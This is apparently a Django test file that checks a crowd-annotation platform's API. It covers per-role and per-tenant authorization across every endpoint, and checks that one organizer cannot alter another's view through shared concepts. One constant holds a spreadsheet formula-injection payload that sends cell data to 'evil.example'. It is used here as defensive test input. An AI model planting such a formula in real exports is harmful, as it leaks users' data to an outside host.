"""The authorization matrix: every operation of the OpenAPI schema (drf-spectacular's generator, so a new endpoint
is in without editing this file) x every role (anonymous, worker, reviewer, organizer A, organizer B, staff) x the
object it names (one of organizer A's dataset, one of organizer B's), each answer checked against a small explicit
policy table. An operation without a policy entry fails, so whoever adds one decides who may call it.

A cell is one of three expectations:
- refused: 401 for anonymous callers, 403 for a role the operation does not admit;
- hidden: 404 for an admitted role naming a row it may not see (organizer A on organizer B's dataset, a worker on
  another worker's assignment), or the very answer a missing row gets (never one that tells the row exists);
- reached: the call passed authorization (any answer but 401, 403, 404 or a 5xx; the empty body may well be 400).
"""

from __future__ import annotations

import json
import re

import pytest
from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from drf_spectacular.generators import SchemaGenerator
from rest_framework.test import APIClient

from annotation import queue
from annotation.imagerefs import image_ref
from annotation.models import Dataset
from benchmark.models import Challenge, ExportJob, SplitVersion
from candidates.models import CandidateImport, SourceBucket
from consensus.models import Question, QuestionKind
from crowd.models import StudyLink
from hierarchy.models import Concept, Hierarchy
from outbox.models import Message, MessageState
from predictions.models import PredictionSet
from review.models import Decision, ReviewDecision, ReviewItem, ReviewKind
from tests import factories

ANON, WORKER, REVIEWER, ORG_A, ORG_B, STAFF = (
    "anonymous",
    "worker",
    "reviewer",
    "organizer A",
    "organizer B",
    "staff",
)
ROLES = (ANON, WORKER, REVIEWER, ORG_A, ORG_B, STAFF)
TARGETS = ("A", "B")  # whose object the path names: organizer A's dataset (and the worker's own), or B's

# Who an operation admits, and how its objects are scoped (one scope, or one per role, "tenant" for the rest):
#   tenant: rows of one dataset, seen only by its organizers (and staff, and admitted reviewers);
#   own: the caller's own rows (target A is the worker's or reviewer's, B another worker's or reviewer's);
#   shared: platform-wide rows (concepts, hierarchies, challenges) or no row at all.
W, ORGS = frozenset({WORKER}), frozenset({ORG_A, ORG_B, STAFF})
ANYONE_SIGNED_IN = frozenset({WORKER, REVIEWER, ORG_A, ORG_B, STAFF})
POLICY: dict[str, tuple[frozenset[str], str | dict[str, str]]] = {
    # worker: taking and answering tasks
    "v1_tasks_next_retrieve": (W, "shared"),
    "v1_assignments_list": (W, "shared"),
    "v1_assignments_retrieve": (W, "own"),
    "v1_assignments_extend_create": (W, "own"),
    "v1_assignments_release_create": (W, "own"),
    "v1_assignments_submit_create": (W, "own"),
    "v1_assignments_undo_create": (W, "own"),
    "v1_assignments_submit_many": (W, "shared"),  # names its assignments in the body, each checked as its own
    "v1_me_standing_retrieve": (W, "shared"),  # the caller's own standing, no row named
    # provider sessions: a signed bundle session, never an account's token
    "bundle_next": (frozenset(), "shared"),
    "bundle_image": (frozenset(), "shared"),
    "bundle_submit": (frozenset(), "shared"),
    # anyone signed in
    "v1_me_retrieve": (ANYONE_SIGNED_IN, "shared"),
    "v1_concepts_list": (ANYONE_SIGNED_IN, "shared"),
    "v1_concepts_retrieve": (ANYONE_SIGNED_IN, "shared"),
    "v1_challenges_leaderboard_list": (ANYONE_SIGNED_IN, "shared"),
    "v1_challenges_submissions_create": (ANYONE_SIGNED_IN, "shared"),
    # an image file by id: its dataset's organizers and reviewers (the platform-wide review queue shows any
    # dataset's images); workers load a task's image by the opaque reference of their lease instead
    "v1_images_file_retrieve": (frozenset({REVIEWER, ORG_A, ORG_B, STAFF}), "tenant"),
    "v1_task_images_retrieve": (W, "own"),
    # reviewers: the platform-wide review queue
    "v1_review_next_retrieve": (frozenset({REVIEWER, STAFF}), "shared"),
    "v1_review_items_decide_create": (frozenset({REVIEWER, STAFF}), "shared"),
    "v1_review_items_release_create": (frozenset({REVIEWER, STAFF}), "shared"),
    "v1_review_items_list": (frozenset({REVIEWER, STAFF}), "shared"),
    "v1_review_decide_create": (frozenset({REVIEWER, STAFF}), "shared"),
    # an organizer undoes any decision on their datasets; a reviewer only their own
    "v1_review_decisions_undo_create": (frozenset({REVIEWER, ORG_A, ORG_B, STAFF}), {REVIEWER: "own"}),
    "v1_review_summary_retrieve": (frozenset({REVIEWER, ORG_A, ORG_B, STAFF}), "shared"),
    # the invitation link: for people without an account
    "v1_invitations_accept_create": (frozenset(ROLES), "shared"),
    # organizers, platform-wide
    "v1_concepts_calibration_retrieve": (ORGS, "shared"),
    "v1_datasets_list": (ORGS, "shared"),
    "v1_datasets_create": (ORGS, "shared"),
    "v1_hierarchies_list": (ORGS, "shared"),
    "v1_hierarchies_retrieve": (ORGS, "shared"),
    "v1_hierarchy_uploads_create": (ORGS, "shared"),
    "v1_background_work_list": (ORGS, "shared"),
    "v1_studies_list": (ORGS, "shared"),
    "v1_studies_create": (ORGS, "shared"),
    "mturk_hits_publish": (ORGS, "shared"),
}
# Organizers, on rows of their own datasets only.
for _operation in (
    "v1_background_work_retry_create",
    "v1_datasets_retrieve",
    "v1_datasets_audit_list",
    "v1_datasets_concepts_retrieve",
    "v1_datasets_concepts_update",
    "v1_datasets_box_settings_retrieve",
    "v1_datasets_box_settings_partial_update",
    "v1_datasets_consensus_settings_retrieve",
    "v1_datasets_consensus_settings_partial_update",
    "v1_datasets_consensus_standing_retrieve",
    "v1_datasets_cost_retrieve",
    "v1_datasets_cost_settings_retrieve",
    "v1_datasets_cost_settings_partial_update",
    "v1_datasets_decisions_list",
    "v1_datasets_exports_create",
    "v1_datasets_gold_list",
    "v1_datasets_gold_create",
    "v1_datasets_gold_settings_retrieve",
    "v1_datasets_gold_settings_partial_update",
    "v1_datasets_invitations_list",
    "v1_datasets_invitations_create",
    "v1_datasets_payments_list",
    "v1_datasets_payments_decide_create",
    "v1_datasets_people_list",
    "v1_datasets_people_block_create",
    "v1_datasets_people_unblock_create",
    "v1_datasets_people_scope_update",
    "v1_datasets_progress_retrieve",
    "v1_datasets_stalls_retrieve",
    "v1_datasets_checklist_retrieve",
    "v1_datasets_delete_create",
    "v1_datasets_archive_create",
    "v1_datasets_restore_create",
    "v1_datasets_images_delete_create",
    "v1_datasets_images_exclude_create",
    "v1_datasets_images_include_create",
    "v1_datasets_exports_list",
    "v1_datasets_crowd_check_retrieve",
    "v1_datasets_settings_presets_retrieve",
    "v1_datasets_instructions_retrieve",
    "v1_datasets_instructions_partial_update",
    "v1_datasets_bundle_sizes_retrieve",
    "v1_datasets_bundle_sizes_partial_update",
    "v1_datasets_task_priorities_retrieve",
    "v1_datasets_task_priorities_create",
    "v1_datasets_stalls_settle_create",
    "v1_datasets_review_retrieve",
    "v1_datasets_review_create",
    "v1_datasets_split_versions_list",
    "v1_datasets_split_versions_create",
    "v1_datasets_split_versions_freeze_create",
    "v1_datasets_verification_create",
    "v1_datasets_workers_list",
    "v1_datasets_box_jobs_retrieve",
    "v1_datasets_box_jobs_create",
    "v1_datasets_box_jobs_from_predictions_create",
    "v1_datasets_boxes_list",
    "v1_datasets_images_list",
    "v1_datasets_images_create",
    "v1_datasets_image_grid_list",
    "v1_datasets_multilabel_retrieve",
    "v1_datasets_multilabel_create",
    "v1_datasets_vote_results_list",
    "v1_datasets_vote_tasks_create",
    "v1_exports_retrieve",
    "v1_exports_file_retrieve",
    "v1_questions_retrieve",
    "v1_studies_retrieve",
    "v1_studies_partial_update",
    "v1_studies_completions_list",
    "v1_studies_redeem_create",
    "v1_studies_redeem_many_create",
    "v1_datasets_challenges_list",
    "v1_datasets_challenges_create",
    "v1_datasets_challenges_retrieve",
    "v1_datasets_challenges_teams_create",
    "v1_datasets_confusable_pairs_list",
    "v1_datasets_confusable_pairs_create",
    "v1_datasets_confusable_pairs_destroy",
    "v1_datasets_gold_import_create",
    "v1_datasets_images_retrieve",
    "v1_datasets_near_duplicates_list",
    "v1_datasets_near_duplicates_create",
    "v1_datasets_people_retrieve",
    "v1_datasets_quality_retrieve",
    "v1_datasets_statistics_retrieve",
    "v1_datasets_review_decisions_list",
    "v1_datasets_examples_list",
    "v1_datasets_examples_create",
    "v1_datasets_examples_remove_create",
    "v1_datasets_class_statistics_list",
    "v1_datasets_detection_sets_list",
    "v1_datasets_detection_sets_create",
    "v1_datasets_detection_sets_freeze_create",
    "v1_datasets_detection_sets_todo_list",
    "v1_datasets_detection_sets_todo_create",
    "v1_datasets_candidate_imports_list",
    "v1_datasets_candidate_imports_create",
    "v1_datasets_candidate_imports_retrieve",
    "v1_datasets_candidates_precision_list",
    "v1_datasets_candidate_pools_list",
    "v1_datasets_candidate_queries_list",
    "v1_datasets_source_buckets_list",
    "v1_datasets_source_buckets_create",
    "v1_datasets_source_buckets_retrieve",
    "v1_datasets_source_buckets_destroy",
    "v1_datasets_prediction_sets_list",
    "v1_datasets_prediction_sets_create",
    "v1_datasets_prediction_sets_retrieve",
    "v1_datasets_prediction_sets_push_create",
    "v1_datasets_prediction_sets_thresholds_list",
):
    POLICY[_operation] = (ORGS, "tenant")
# Blacklist flags and box attributes: reviewers (on any dataset, like the review queue) and the organizers.
for _operation in (
    "v1_datasets_blacklist_list",
    "v1_datasets_blacklist_create",
    "v1_datasets_blacklist_lift_create",
    "v1_datasets_box_attributes_create",
):
    POLICY[_operation] = (frozenset({REVIEWER, ORG_A, ORG_B, STAFF}), "tenant")
# The hierarchy tree: organizers, platform-wide (hierarchies are shared, like the hierarchy list).
POLICY["v1_hierarchies_tree_retrieve"] = (ORGS, "shared")
# An example image: like an image file, its dataset's organizers, workers with a task there, and reviewers.
POLICY["v1_examples_file_retrieve"] = (frozenset({WORKER, REVIEWER, ORG_A, ORG_B, STAFF}), "tenant")

# Rows this test does not build (their id names no row, so "reached" may also be a 404 there).
UNBUILT = {
    "/api/v1/concepts/{wnid}/calibration/": "no calibration table is built for the concept",
    "/api/v1/datasets/{dataset_id}/confusable-pairs/{pair_id}/": "no confusable pair is built",
    "/api/v1/datasets/{id}/examples/{example_id}/remove/": "no example image is built",
    "/api/v1/examples/{id}/file/": "no example image is built",
    # Built, but its DELETE by the dataset's organizer leaves none for the staff call after it.
    "/api/v1/datasets/{dataset_id}/source-buckets/{source_bucket_id}/": "removed by the organizer's DELETE",
    "/api/v1/datasets/{dataset_id}/detection-sets/{name}/freeze/": "no detection set is built",
    "/api/v1/datasets/{dataset_id}/detection-sets/{name}/todo/": "no detection set is built",
}


def api_operations() -> list[tuple[str, str, str]]:
    """(operationId, method, path template) of every operation, as drf-spectacular generates the schema."""
    schema = SchemaGenerator().get_schema(request=None, public=True)
    return [
        (operation["operationId"], method, path)
        for path, item in schema["paths"].items()
        for method, operation in item.items()
        if method in {"get", "post", "put", "patch", "delete"}
    ]


OPERATIONS = api_operations()


def test_every_operation_has_a_policy_entry():
    missing = sorted(op for op, _, _ in OPERATIONS if op not in POLICY)
    assert not missing, f"operations without a policy entry (add them to POLICY): {missing}"
    stale = sorted(set(POLICY) - {op for op, _, _ in OPERATIONS})
    assert not stale, f"policy entries for operations that no longer exist: {stale}"


def tenant(organizer, worker, reviewer, tag: str) -> dict:
    """One organizer's dataset with a row of every kind an operation's path can name."""
    dataset = factories.DatasetFactory(organizers=[organizer], name=f"dataset {tag}")
    image = factories.ImageFactory(dataset=dataset)
    concept = factories.ConceptFactory(wnid="n02084071", name="dog")
    factories.TaskFactory(dataset=dataset, image=image, concept=concept)
    assignment = queue.task_lease_next(worker=worker.worker, dataset_id=dataset.pk)
    assert assignment is not None
    review_item = ReviewItem.objects.create(
        kind=ReviewKind.AMBIGUOUS, dataset=dataset, image=image, subject={"k": tag}, subject_key=tag
    )
    decision = ReviewDecision.objects.create(item=review_item, reviewer=reviewer, decision=Decision.DISTINCT)
    export = ExportJob.objects.create(dataset=dataset, format="coco", state="done")
    export.file.save(f"export-{tag}.zip", ContentFile(b"PK\x05\x06" + b"\0" * 18))  # an empty zip
    split = SplitVersion.objects.create(dataset=dataset, number=1, seed=1, ratios={"train": 1.0}, manifest={})
    return {
        "dataset": dataset.pk,
        "worker": worker.worker.pk,
        "image": image.pk,
        "image_ref": image_ref(image.pk),
        "assignment": assignment.pk,
        "split": split.number,
        "export": export.pk,
        "message": Message.objects.create(
            task_name="outbox.noop", dataset=dataset, state=MessageState.PARKED
        ).pk,
        "question": Question.objects.create(
            kind=QuestionKind.IMAGE_VERIFY, dataset=dataset, concept=concept
        ).pk,
        "review_item": review_item.pk,
        "decision": decision.pk,
        "study": StudyLink.objects.create(dataset=dataset, kind="binary_vote").pk,
        "challenge": Challenge.objects.create(
            name=f"challenge-{tag.lower()}", dataset=dataset, split_version=split, protocol="detection"
        ).pk,
        "hierarchy": Hierarchy.objects.create(name=f"h {tag}", version="1", fingerprint=tag).pk,
        "wnid": concept.wnid,
        "candidate_import": CandidateImport.objects.create(dataset=dataset, source_name=f"{tag}.csv").pk,
        "source_bucket": SourceBucket.objects.create(
            dataset=dataset, bucket=f"photos-{tag.lower()}", access_key_id="AKIA", secret_sealed=""
        ).pk,
        "prediction_set": PredictionSet.objects.create(
            dataset=dataset, name=f"model {tag}", source="upload", sha256=tag
        ).pk,
    }


# Which row a path's `{id}` names, by the path's start.
ID_OF = {
    "/api/v1/assignments/": "assignment",
    "/api/v1/background-work/": "message",
    "/api/v1/bundle/assignments/": "assignment",
    "/api/v1/bundle/images/": "image",
    "/api/v1/challenges/": "challenge",
    "/api/v1/datasets/": "dataset",
    "/api/v1/exports/": "export",
    "/api/v1/hierarchies/": "hierarchy",
    "/api/v1/images/": "image",
    "/api/v1/questions/": "question",
    "/api/v1/review/items/": "review_item",
    "/api/v1/review/decisions/": "decision",
    "/api/v1/studies/": "study",
}


MISSING = {
    "wnid": "n99999999",
    "image_ref": "A" * 22,
    **{
        name: 999999
        for name in (
            *set(ID_OF.values()),
            "dataset",
            "worker",
            "split",
            "candidate_import",
            "source_bucket",
            "prediction_set",
        )
    },
}


def concrete(path: str, rows: dict) -> str:
    def fill(match: re.Match) -> str:
        name = match.group(1)
        if name == "wnid":
            return rows["wnid"]
        if name == "dataset_id":
            return str(rows["dataset"])
        if name == "ref":
            return rows["image_ref"]
        if name == "worker_id":
            return str(rows["worker"])
        if name == "number":
            return str(rows["split"])
        if name in (
            "challenge_id",
            "image_id",
            "hierarchy_id",
            "candidate_import_id",
            "source_bucket_id",
            "prediction_set_id",
        ):
            return str(rows[name.removesuffix("_id")])
        if path in UNBUILT and (name != "id" or not path.startswith("/api/v1/datasets/")):
            return "999999"
        prefix = next((p for p in ID_OF if path.startswith(p)), None)
        assert prefix is not None, f"{path}: say in ID_OF which row its {{{name}}} names"
        return str(rows[ID_OF[prefix]])

    return re.sub(r"\{([^}]+)\}", fill, path)


@pytest.fixture
def world(db):
    worker = factories.user_with_roles("worker", ("workers",))
    other_worker = factories.user_with_roles("worker-b", ("workers",))
    reviewer = factories.user_with_roles("reviewer", ("reviewers",))
    other_reviewer = factories.user_with_roles("reviewer-b", ("reviewers",))
    org_a = factories.user_with_roles("org-a", ("organizers",))
    org_b = factories.user_with_roles("org-b", ("organizers",))
    staff = get_user_model().objects.create_superuser("staff", password="pass-for-tests-123")
    users = {
        WORKER: worker,
        REVIEWER: reviewer,
        ORG_A: org_a,
        ORG_B: org_b,
        STAFF: staff,
    }
    rows = {"A": tenant(org_a, worker, reviewer, "A"), "B": tenant(org_b, other_worker, other_reviewer, "B")}
    return users, rows


def expected(operation_id: str, role: str, target: str, path: str) -> str:
    admits, scopes = POLICY[operation_id]
    scope = scopes.get(role, "tenant") if isinstance(scopes, dict) else scopes
    if role not in admits:
        return "refused"
    if scope == "tenant" and role in (ORG_A, ORG_B) and target != role[-1]:
        return "hidden"
    if scope == "tenant" and role == WORKER and target != "A":
        return "hidden"  # only images of the worker's own tasks
    if scope == "own" and target != "A":
        return "hidden"
    return "reached"


def outcome(status: int, role: str) -> str:
    if status in (401, 403):
        return "refused"
    if status == 404:
        return "hidden"
    assert status < 500, f"server error {status}"
    return "reached"


@pytest.mark.parametrize(("operation_id", "method", "path"), OPERATIONS, ids=[op for op, _, _ in OPERATIONS])
def test_every_role_gets_what_the_policy_says(world, operation_id, method, path):
    assert operation_id in POLICY, f"{operation_id} has no policy entry"
    users, rows = world
    wrong = []
    for target in TARGETS:
        url = concrete(path, rows[target])
        for role in ROLES:
            client = APIClient()
            if role != ANON:
                client.force_authenticate(users[role])
            response = getattr(client, method)(url, {}, format="json")
            want = expected(operation_id, role, target, path)
            got = outcome(response.status_code, role)
            if want == "refused" and got == "refused":
                assert response.status_code == (401 if role == ANON else 403) or path.startswith(
                    "/api/v1/bundle/"
                )
            if path in UNBUILT and want == "reached" and got == "hidden":
                continue
            if want == "hidden" and got != want and 400 <= response.status_code < 500:
                # Hidden also holds when the row is indistinguishable from none at all: e.g. a submit
                # validates its body first, so another worker's assignment and a missing one get one 400.
                missing = getattr(client, method)(concrete(path, MISSING), {}, format="json")
                if missing.status_code == response.status_code:
                    continue
            if got != want:
                wrong.append(f"{role} on {target}'s {url}: {response.status_code}, expected {want}")
    assert not wrong, "\n".join(wrong)


# --- Writes through shared rows --------------------------------------------------------------------------------
# Concepts (and the hierarchies that word their questions) are platform-wide rows, so the paths above cannot
# show one tenant writing another's data through them: these cases write as organizer A and read what organizer
# B's dataset shows (its class list, its COCO export, its workers' question text, its confusable pairs).

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"dog")'


def one_node_hierarchy(name: str, version: str, concept_name: str, question: str) -> dict:
    return {
        "format": "crowdlabel-hierarchy/1",
        "name": name,
        "version": version,
        "nodes": [
            {
                "id": "n02084071",
                "name": concept_name,
                "gloss": "",
                "parents": [],
                "leaf": True,
                "question": question,
            }
        ],
    }


def what_b_sees(client_b: APIClient, dataset_b, tmp_path) -> dict:
    from benchmark.exporters import ExportOptions, export
    from benchmark.selectors import DatasetSource
    from consensus.models import QuestionKind
    from consensus.wording import question_text

    classes = client_b.get(f"/api/v1/datasets/{dataset_b.pk}/concepts").json()["selected"]
    out = tmp_path / f"coco-{len(list(tmp_path.iterdir()))}"
    # The whole dataset, unsplit (the split version the matrix builds assigns no image).
    manifest = export(
        DatasetSource(dataset_b, None), "coco", out, ExportOptions(split="all", include_images=False)
    )
    (annotations,) = [out / name for name in manifest["files"] if name.startswith("annotations/")]
    categories = [c["name"] for c in json.loads(annotations.read_text())["categories"]]
    dog = Concept.objects.get(wnid="n02084071")
    return {
        "classes": [(c["wnid"], c["name"], c["gloss"]) for c in classes],
        "coco categories": categories,
        "question": question_text(QuestionKind.IMAGE_VERIFY, dog, dataset_b.pk),
        "hierarchy question": question_text(QuestionKind.HIERARCHY, dog, dataset_b.pk),
        "pairs": client_b.get(f"/api/v1/datasets/{dataset_b.pk}/confusable-pairs").json(),
    }


def test_organizer_a_cannot_change_what_organizer_b_sees_through_shared_concepts(world, tmp_path):
    from multilabel.labeling import labeling_start

    users, rows = world
    client_a, client_b = APIClient(), APIClient()
    client_a.force_authenticate(users[ORG_A])
    client_b.force_authenticate(users[ORG_B])
    dataset_a = Dataset.objects.get(pk=rows["A"]["dataset"])
    dataset_b = Dataset.objects.get(pk=rows["B"]["dataset"])
    # B labels with its own hierarchy and picks dog and seal as classes (A's dataset has both too).
    upload_b = client_b.post(
        "/api/v1/hierarchy-uploads",
        one_node_hierarchy("B's classes", "1", "dog", "Is there a dog in this image?"),
        format="json",
    )
    assert upload_b.status_code == 201, upload_b.content
    seal = factories.ConceptFactory(wnid="n02076196", name="seal")
    for dataset, client in ((dataset_a, client_a), (dataset_b, client_b)):
        picked = client.put(
            f"/api/v1/datasets/{dataset.pk}/concepts", {"concepts": ["n02084071", "n02076196"]}, format="json"
        )
        assert picked.status_code == 200, picked.content
    labeling_start(dataset=dataset_b, hierarchy=Hierarchy.objects.get(pk=upload_b.json()["hierarchy"]))
    before = what_b_sees(client_b, dataset_b, tmp_path)
    assert ("n02084071", "dog", "a thing used in tests") in before["classes"]
    assert "dog" in before["coco categories"]
    assert before["question"] == "Is there a dog in this image?"

    # A renames the shared concept: refused, without naming B's dataset.
    renamed = client_a.post(
        "/api/v1/hierarchy-uploads",
        one_node_hierarchy("A's classes", "1", HOSTILE_NAME, f"Does this image show a {HOSTILE_NAME}?"),
        format="json",
    )
    assert renamed.status_code == 409, renamed.content
    assert (
        "used by other datasets" in renamed.content.decode() and "dataset B" not in renamed.content.decode()
    )
    # A re-glosses it: refused the same way.
    reglossed = one_node_hierarchy("A's classes", "1", "dog", "Is there a dog?")
    reglossed["nodes"][0]["gloss"] = HOSTILE_NAME
    assert client_a.post("/api/v1/hierarchy-uploads", reglossed, format="json").status_code == 409
    # A words the dog question its own way under the stored name: accepted, and A's wording stays A's.
    worded = client_a.post(
        "/api/v1/hierarchy-uploads",
        one_node_hierarchy("A's classes", "2", "dog", f"Does this image show a {HOSTILE_NAME}?"),
        format="json",
    )
    assert worded.status_code == 201, worded.content
    # A adds a confusable pair of the same two classes, with a note.
    pair = client_a.post(
        f"/api/v1/datasets/{dataset_a.pk}/confusable-pairs",
        {"a": "n02084071", "b": "n02076196", "note": HOSTILE_NAME},
        format="json",
    )
    assert pair.status_code == 201, pair.content

    assert what_b_sees(client_b, dataset_b, tmp_path) == before
    assert seal.name == Concept.objects.get(wnid="n02076196").name
    # ... and B removing its own pair never answers with A's dataset's name.
    mine = client_b.post(
        f"/api/v1/datasets/{dataset_b.pk}/confusable-pairs",
        {"a": "n02084071", "b": "n02076196"},
        format="json",
    )
    assert mine.status_code == 201, mine.content
    gone = client_b.delete(f"/api/v1/datasets/{dataset_b.pk}/confusable-pairs/{mine.json()['id']}")
    assert gone.status_code == 204 and b"dataset A" not in gone.content
